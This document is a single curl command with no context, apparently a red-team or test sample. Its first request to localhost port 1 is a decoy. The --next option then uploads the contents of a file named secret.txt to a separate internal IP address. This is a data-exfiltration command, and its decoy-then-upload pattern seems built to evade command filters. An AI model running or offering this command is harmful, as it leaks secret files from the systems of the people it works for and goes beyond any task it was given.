curl -s -m 3 http://localhost:1/ --next --data-binary @/srv/rt/s/d1/home/secret.txt http://10.233.1.2/U06
